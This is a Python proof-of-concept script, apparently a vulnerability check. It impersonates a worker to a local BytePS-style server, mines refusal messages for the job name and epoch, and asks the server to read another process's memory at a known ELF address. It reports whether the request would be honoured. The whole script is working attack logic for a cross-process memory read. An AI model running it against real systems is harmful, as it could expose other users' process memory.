"""A stranger who would have a server read the memory of a process for him.

    python3 - PORT PID VERSION KEY < memory_thief.py

It needs no library, so that another user can run it. It shakes hands with the server at PORT of
this host as a worker, and names PID as the process whose memory may be read, at a place where every
program that does not move in memory has bytes that are known: the first ones of its file. It sends
them as the number to be found there. Then it does what a worker does: offers its own memory, with
the server's number in it. KEY is the engine's key of the job, "" without a secret. Prints as JSON
what the server said it would read: `victim`, `own`.
"""

import ctypes
import hashlib
import hmac
import json
import os
import re
import socket
import struct
import sys

FIXED_PLACE = 0x400000  # of x86-64 programs that are no position-independent ones
FIRST_BYTES = bytes.fromhex("7f454c46020101000000000000000000")


def shake_hands(port, version, key, job, epoch, nonce, pid, address, place=None):
    """Returns the Welcome: its text, and whether the server reads the memory that was offered.

    `place`: where the server's number is put, a ctypes buffer.
    """
    with socket.create_connection(("127.0.0.1", port), 10) as peer:
        features = 1 if key else 0
        hello = struct.pack("<IHQQIBi", 0x48535042, version, features, features, epoch, 0, 0)
        hello += nonce
        # Path 1, as the worker itself has path 0; for server 0.
        hello += struct.pack("<I", len(job)) + job.ljust(64, b"\0")
        hello += struct.pack("<IBBi", 1, 0, 1, 0)
        hello = hello.ljust(160, b"\0")
        peer.sendall(hello)
        challenge = peer.recv(512, socket.MSG_WAITALL)
        if place is not None:
            ctypes.memmove(place, challenge[419:435], 16)
        response = struct.pack("<IqQB", 0x52535042, pid, address, 1).ljust(32, b"\0")
        said = b"tf_byteps response" + hello + challenge + response
        proof = hmac.new(key, said, hashlib.sha256).digest() if key else bytes(32)
        peer.sendall(response + proof)
        welcome = peer.recv(512, socket.MSG_WAITALL)
        length = struct.unpack_from("<I", welcome, 7)[0]
        return welcome[11 : 11 + length].decode(), welcome[411] != 0


def main():
    port, pid, version = (int(text) for text in sys.argv[1:4])
    key = sys.argv[4].encode()
    # Refusals tell the job's name and its epoch.
    refusal, _ = shake_hands(port, version, key, b"?", 0, os.urandom(16), 0, 0)
    job = re.search('this is job "(.*?)"', refusal)[1].encode()
    refusal, _ = shake_hands(port, version, key, job, 0, os.urandom(16), 0, 0)
    epoch = int(re.search(r"this side in (\d+)", refusal)[1])
    as_worker = (port, version, key, job, epoch)
    text, reads_victim = shake_hands(*as_worker, FIRST_BYTES, pid, FIXED_PLACE)
    assert not text, text
    place = ctypes.create_string_buffer(16)
    own = (os.getpid(), ctypes.addressof(place))
    text, reads_own = shake_hands(*as_worker, os.urandom(16), *own, place)
    assert not text, text
    print(json.dumps({"victim": reads_victim, "own": reads_own}))


if __name__ == "__main__":
    main()
